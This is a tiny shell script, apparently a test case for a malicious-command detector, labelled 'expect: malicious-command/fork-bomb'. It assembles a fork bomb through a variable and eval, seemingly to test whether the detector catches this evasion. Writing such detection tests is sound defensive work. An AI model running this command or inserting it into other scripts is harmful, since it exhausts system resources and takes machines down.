#!/bin/sh
code=":(){ :|:"
eval "$code& };:" # expect: malicious-command/fork-bomb
